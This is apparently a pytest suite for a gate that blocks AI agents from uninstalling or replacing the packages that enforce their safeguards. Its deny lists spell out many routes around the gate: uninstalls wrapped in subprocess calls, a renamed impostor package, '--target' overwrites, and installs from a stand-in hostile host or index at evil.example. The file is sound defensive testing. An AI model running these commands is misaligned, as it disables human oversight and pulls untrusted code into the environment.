"""Package managers are judged by the distributions that they name, and by where these would come from."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pytest

if TYPE_CHECKING:
    from pathlib import Path

    from environments import Gated

# ENV stands for the gate's environment, SITE for its packages.
REMOVING = r"""
pip uninstall -y pluggy
pip uninstall pydantic pydantic-core
pip3 uninstall -y typing_extensions
pip3.11 uninstall -y Pydantic_Core
python -m pip uninstall -y pluggy
python3 -m pip uninstall -y agent-hooks-guards
ENV/bin/pip uninstall -y pluggy
ENV/bin/python -m pip uninstall -y filelock
uv pip uninstall pluggy
uv pip uninstall --python ENV pluggy
uv pip uninstall -p ENV/bin/python pluggy
uv remove pluggy
uv tool uninstall agent-hooks-core
pipx uninstall agent-hooks-core
pipx runpip agent-hooks-core uninstall -y pluggy
poetry remove pluggy
pdm remove pydantic
conda remove -y pluggy
conda uninstall pydantic
mamba remove pydantic
micromamba remove pydantic
hatch run pip uninstall -y pluggy
sudo pip uninstall -y pluggy
yes | pip uninstall pluggy
echo pluggy | xargs pip uninstall -y
printf 'pluggy\n' > r.txt; pip uninstall -y -r /dev/stdin < r.txt; pip uninstall -y pluggy
sh -c 'pip uninstall -y pluggy'
python -c "import subprocess, sys; subprocess.run([sys.executable, '-m', 'pip', 'uninstall', '-y', 'agent-hooks-core'])"
""".strip().splitlines()

REPLACING = r"""
pip install ./pluggy
pip install -e ./pluggy
pip install --editable=vendor/pluggy
pip install /tmp/pluggy-9.9-py3-none-any.whl
pip install dist/pydantic-99.0.tar.gz
pip install 'pluggy @ file:///tmp/pluggy'
pip install pluggy@https://evil.example/pluggy.tar.gz
pip install git+https://evil.example/pluggy.git
pip install 'git+https://evil.example/x.git#egg=pluggy'
pip install https://evil.example/pluggy-9.9.tar.gz
pip install renamed
pip install ./renamed
pip install --force-reinstall --no-deps ./renamed
uv pip install ./renamed
uv add ./renamed
uv add --editable ./renamed
poetry add ./renamed
pip install -i https://evil.example/simple pluggy
pip install --index-url=https://evil.example/simple -U pydantic
pip install --extra-index-url https://evil.example/simple agent-hooks-core
pip install --no-index --find-links wheels pluggy
pip install -f wheels pluggy
PIP_INDEX_URL=https://evil.example/simple pip install -U pluggy
export UV_INDEX_URL=https://evil.example/simple; uv pip install -U pluggy
uv pip install --index https://evil.example/simple pluggy
uv pip install --default-index https://evil.example/simple pluggy
pip install --target SITE pluggy
pip install --target=SITE anything
pip install -t SITE anything
pip install --prefix ENV anything
pip install --target "$(python -c 'import site; print(site.getsitepackages()[0])')" anything
uv pip install --target SITE anything
pip install agent-hooks
pip install -U agent_hooks
pip install agent-hooks==0.2.0
pip install 'agent-hooks[all]>=0.2'
pip install agent-hooks-sdk
pip install requests agent-hooks-sdk==0.1.0b3
python -m pip install --pre agent-hooks-sdk
uv pip install agent-hooks
uv add agent-hooks
uv add --dev agent-hooks-sdk
uv tool install agent-hooks
pipx install agent-hooks
poetry add agent-hooks
pdm add agent-hooks
conda install agent-hooks
""".strip().splitlines()

HARMLESS = r"""
pip install -e .
pip install -e '.[dev]'
pip install .
pip install -r requirements.txt
pip install -e . -r requirements-dev.txt
pip install -U pydantic
pip install --upgrade pip setuptools wheel
pip install pluggy==1.6.0
pip install 'pydantic>=2,<3' rich
pip install -i https://mirror.example/simple requests
pip install --index-url https://mirror.example/simple -r requirements.txt
pip install --no-index --find-links wheels requests
pip install ./other-package
pip install dist/honest-1.0-py3-none-any.whl
pip install git+https://github.com/psf/requests.git
pip install --target package/ pydantic requests
pip install -t vendor pluggy
pip install --user black
pip install agent-hooks-core
pip install -U 'agent-hooks-core[cli]' agent-hooks-guards
pip download pluggy agent-hooks
pip wheel pluggy
pip show pluggy && pip list && pip freeze > requirements.txt
pip check
pip cache purge
pip config list
pip uninstall -y requests other
pip uninstall -y -r requirements.txt
python -m pip install -e .
python -m ensurepip --upgrade
python -m ensurepip
python -m venv .venv2
python -m venv ENV
python -m venv --upgrade-deps /tmp/x
virtualenv /tmp/x
uv sync
uv sync --all-extras --dev
uv lock --upgrade
uv add httpx
uv add --dev pytest ruff
uv add pydantic
uv remove httpx
uv run pytest -q
uv run --with rich python -c "print(1)"
uv venv /tmp/venv
uv venv .venv2 --python 3.12
uv pip install -e .
uv pip install -r requirements.txt
uv pip sync requirements.txt
uv pip compile pyproject.toml -o requirements.txt
uv pip list
uv tool install ruff
uv tool upgrade --all
uv tool list
uv python install 3.13
uv cache clean
uvx ruff check
poetry install
poetry add httpx
poetry remove httpx
poetry update
poetry lock
poetry run pytest
pdm install
pdm add httpx
pdm remove httpx
pipenv install --dev
pipx install ruff
pipx uninstall black
pipx list
conda install -y numpy
conda remove -y numpy
conda env list
conda env create -f environment.yml
conda remove -n other --all
hatch run test
hatch env show
tox -e py312
nox -s tests
npm install && npm uninstall left-pad
npm remove pluggy
brew install jq
apt-get install -y jq
sudo apt-get remove -y nano
docker run --rm python:3.12 pip uninstall -y pluggy
docker compose run --rm web pip uninstall -y pydantic
/opt/other/bin/pip uninstall -y pydantic
/opt/other/bin/python -m pip uninstall -y pydantic
uv pip uninstall --python /opt/other pydantic
conda remove -n other pydantic
source /opt/other/bin/activate && pip uninstall -y pydantic
git commit -m 'pip uninstall pluggy'
echo pip uninstall pluggy
grep -rn 'pip uninstall pluggy' docs
""".strip().splitlines()


@pytest.fixture(scope="module", autouse=True)
def _project(gated: Gated) -> None:
    """A copy of a dependency under another folder's name, and requirements."""
    copy = gated.project / "renamed"
    copy.mkdir()
    (copy / "pyproject.toml").write_text('[project]\nname = "pluggy"\nversion = "9"\n')
    (gated.project / "requirements.txt").write_text("requests\nhttpx>=0.27\n")


@pytest.mark.parametrize("command", REMOVING)
def test_a_distribution_of_the_gate_is_not_removed(gated: Gated, command: str):
    assert gated.decides(command) == "deny"


@pytest.mark.parametrize("command", [each for each in REPLACING if "install renamed" not in each])
def test_nor_is_it_replaced(gated: Gated, command: str):
    assert gated.decides(command) == "deny"


@pytest.mark.parametrize("command", HARMLESS)
def test_any_other_work_with_packages_goes_on(gated: Gated, command: str):
    assert gated.decides(command) == "proceed"


@pytest.mark.parametrize("command", ["uv tool uninstall --all", "pipx uninstall-all"])
def test_a_gate_that_is_installed_as_a_tool_is_not_removed_with_all_tools(gated: Gated, command: str):
    assert gated.decides(command) == ("proceed" if gated.inside else "deny")


def test_what_a_file_of_requirements_names_is_removed_by_name(gated: Gated):
    (gated.project / "gone.txt").write_text("requests\npluggy==1.6\n")
    assert gated.decides("pip uninstall -y -r gone.txt") == "deny"


def test_a_project_with_an_environment_of_its_own_is_not_the_gates(gated: Gated):
    own = gated.project / ".venv" / "pyvenv.cfg"
    if gated.inside:
        assert gated.decides("uv remove pydantic") == "deny"
        return
    own.parent.mkdir()
    own.write_text("")
    try:
        assert gated.decides("uv remove pydantic") == "proceed"
        assert gated.decides("uv remove agent-hooks-guards") == "deny"
        assert gated.decides(".venv/bin/pip uninstall -y pydantic") == "proceed"
    finally:
        own.unlink()
        own.parent.rmdir()


def test_a_checkout_that_is_used_already_may_be_installed_again(gated: Gated, tmp_path: Path):
    checkout = tmp_path / "agent_hooks_guards"
    checkout.mkdir()
    (checkout / "pyproject.toml").write_text('[project]\nname = "agent-hooks-guards"\n')
    command = f"pip install -e {checkout}"
    assert gated.decides(command) == "deny"
    used = gated.environment.site / "agent_hooks_guards-0.1.0.dist-info" / "direct_url.json"
    used.write_text(json.dumps({"url": checkout.as_uri(), "dir_info": {"editable": True}}))
    (gated.environment.site / "changed").mkdir()
    assert gated.decides(command) == "proceed"
    used.unlink()
    (gated.environment.site / "changed").rmdir()


@pytest.mark.parametrize("command", ["pip uninstall -y pluggy", "pip install agent-hooks", "pip install ./renamed"])
def test_the_real_command_says_what_to_do(gated: Gated, command: str):
    decision, reason = gated.run("Bash", {"command": command})
    assert decision == "deny"
    assert "denied to agents" in reason
    assert "ask a person" in reason


@pytest.mark.parametrize(
    "command",
    ["pip install -e .", "pip install -r requirements.txt", "pip install -U pydantic", "uv sync", "uv add httpx"],
)
def test_the_real_command_lets_everyday_installs_through(gated: Gated, command: str):
    assert gated.run("Bash", {"command": command})[0] == "proceed"
